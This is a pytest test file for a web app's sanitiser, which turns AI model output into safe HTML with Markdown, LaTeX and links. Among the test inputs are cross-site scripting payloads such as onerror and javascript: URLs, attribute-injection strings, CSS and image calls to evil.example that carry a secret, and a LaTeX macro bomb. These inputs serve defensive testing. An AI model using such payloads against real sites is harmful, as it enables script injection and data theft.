"""The HTML of any model output contains only harmless elements."""

import re

import pytest
from django.utils.html import escape
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.rollouts import formulas
from apps.rollouts.markup import ATTRIBUTES, MAX_MARKDOWN_LENGTH, TAGS, markup
from tests.profiles import tries
from tests.rollouts.hostile import PAYLOADS

TAG = re.compile(r"<\s*([a-zA-Z][a-zA-Z0-9]*)([^>]*)>")
SPAN = {"span"}


def elements(html: str) -> list[tuple[str, str]]:
    return [(name.lower(), attributes) for name, attributes in TAG.findall(html)]


def assert_harmless(html: str) -> None:
    for name, attributes in elements(html):
        assert name in TAGS | SPAN | formulas.TAGS, html
        names = set(re.findall(r"([a-zA-Z-]+)\s*=", re.sub(r'"[^"]*"', '""', attributes)))
        allowed = {a for allowed in ATTRIBUTES.values() for a in allowed}
        assert names <= {"rel", "target", "class", "title"} | allowed | formulas.ATTRIBUTES, html
        for address in re.findall(r'href="([^"]*)"', attributes):
            assert address.startswith(("http://", "https://")), html


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_hostile_output_becomes_harmless(payload):
    assert_harmless(markup(payload))


@pytest.mark.parametrize(
    "formula",
    [
        "4*9*3",
        "(4+9)*3*2",
        "a*b*c",
        "3*(4+1)*2",
        "x**2 + y**2",
        "2**3**2",
        "4 * 9 * 3",
        "<answer>4*9*3</answer>",
    ],
)
def test_asterisk_between_factors_is_kept(formula):
    assert markup(formula).strip() == f"<p>{escape(formula)}</p>"


@pytest.mark.parametrize(
    ("said", "html"),
    [
        ("*so*", "<em>so</em>"),
        ("**so**", "<strong>so</strong>"),
        ("a *so* b", "a <em>so</em> b"),
        ("这是**重点**内容", "这是<strong>重点</strong>内容"),
        ("**12*3**", "<strong>12*3</strong>"),
        ("`4*9*3`", "<code>4*9*3</code>"),
        ("**4**, *9*", "<strong>4</strong>, <em>9</em>"),
    ],
)
def test_other_asterisks_keep_their_markdown_meaning(said, html):
    assert markup(said).strip() == f"<p>{html}</p>"


@given(
    st.text()
    | st.lists(
        st.sampled_from(
            [
                "<",
                ">",
                "[",
                "](",
                ")",
                "javascript:",
                "//e.example",
                "`",
                "\n",
                "&#x6a;",
                "<a href=",
                "onx=",
                '"',
                "x",
                "$",
                "\\(",
                "\\)",
                "\\text{",
                "}",
                "```py\n",
            ]
        )
    ).map("".join)
)
@settings(max_examples=tries(80), deadline=None)
def test_any_output_becomes_harmless(text):
    assert_harmless(markup(text))


def test_protocol_relative_link_is_shown_as_text():
    assert "<a" not in markup("[words](//evil.example/x)")


def test_link_shows_its_host_beside_it():
    assert '<span class="host">(example.org)</span>' in markup(
        "[my bank](https://example.org/login)"
    )


def test_links_have_noopener_noreferrer_and_nofollow():
    assert 'rel="noopener noreferrer nofollow"' in markup("[a](https://example.org)")


def test_images_are_not_fetched():
    assert "<img" not in markup("![x](https://evil.example/?secret=1)")


def test_markdown_is_rendered():
    assert markup("**so** sorry") == "<p><strong>so</strong> sorry</p>\n"


def test_deeply_nested_quote_is_cut_without_an_error():
    assert "deep" in markup("deep\n\n" + ">" * 10_000 + " x")


def test_very_long_reply_is_shown_as_plain_text():
    html = markup("<b>" + "a" * MAX_MARKDOWN_LENGTH)
    assert html.startswith("<pre>&lt;b&gt;a")


@pytest.mark.parametrize(
    ("text", "source"),
    [
        (r"It is $\frac{1}{2}$.", r"\frac{1}{2}"),
        (r"so \(x^2\) it is", "x^2"),
        (r"so \[x^2\] it is", "x^2"),
        ("$$x^2$$", "x^2"),
        ("> $$\n> x\n> + 1\n> $$", "x\n+ 1"),
        ("1. a\n\n   \\[\n   x\n   \\]", "x"),
    ],
)
def test_formula_is_rendered_with_its_source_as_title(text, source):
    html = markup(text)
    assert "<math" in html and f'title="{source}"' in html


def test_multiline_formula_is_not_read_as_a_list():
    html = markup("\\[\na\n- b\n\\]")
    assert "<li>" not in html and html.count("<math") == 1


@pytest.mark.parametrize(
    "text", ["It costs $5 and not $10.", "$5-$3 = $2", r"\$5 to \$6", "`$x$`", "a $ b $ c", "$$"]
)
def test_prices_and_code_are_not_formulas(text):
    assert "<math" not in markup(text)


@pytest.mark.parametrize(
    "latex",
    [
        r"\text{<img src=x onerror=alert(1)>}",
        r"\href{javascript:alert(1)}{x}",
        r"\text{&lt;script&gt;alert(1)&lt;/script&gt;}",
        r"\text{</mtext></math><img src=x onerror=alert(1)>}",
        r"\color{red;background:url(http://evil.example)}x",
        r"\style{position:fixed}{x}",
        r'\class{x" onclick="alert(1)}{x}',
        r"\includegraphics{http://evil.example/a.png}",
    ],
)
def test_hostile_formula_becomes_harmless(latex):
    html = markup(f"$${latex}$$")
    assert_harmless(html)
    tags = " ".join(re.findall(r"<[^>]*>", re.sub(r'title="[^"]*"', "", html)))
    assert not re.search(r"(?i)href|style=|class=\"(?!formula)|evil", tags)


def test_formula_that_defines_commands_is_shown_as_source():
    bomb = r"$\newcommand{\a}{xx}\newcommand{\b}{\a\a}\b$"
    assert "<math" not in markup(bomb) and r"\newcommand{\a}{xx}" in markup(bomb)


def test_invalid_latex_is_shown_as_source():
    assert markup(r"$\frac$") == "<p>$\\frac$</p>\n"


def test_placeholder_text_in_a_reply_is_not_replaced_by_a_formula():
    assert "<math" not in markup("mark0123456789abcdef0123456789abcdef-0-")


def test_formulas_are_rendered_up_to_a_limit():
    html = markup(r"$\frac{a}{b}$ " * 10_000)
    assert 1_000 < html.count("<math") < 5_000 and r"$\frac{a}{b}$" in html


def test_code_of_a_known_language_is_colored():
    html = markup("```python\ndef f():\n    return '<b>'\n```")
    assert '<span class="code-keyword">def</span>' in html and "&lt;b&gt;" in html
    assert "<span" not in markup("```brainfuck\ndef f():\n```")
